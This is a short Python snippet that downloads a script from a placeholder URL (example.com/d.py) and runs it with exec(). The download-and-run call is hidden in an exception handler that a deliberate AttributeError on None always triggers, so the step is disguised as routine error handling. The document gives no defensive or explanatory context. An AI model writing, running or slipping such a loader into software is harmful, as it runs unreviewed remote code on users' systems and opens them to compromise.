import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


x = None
try:
    x.start()
except AttributeError:
    _go()
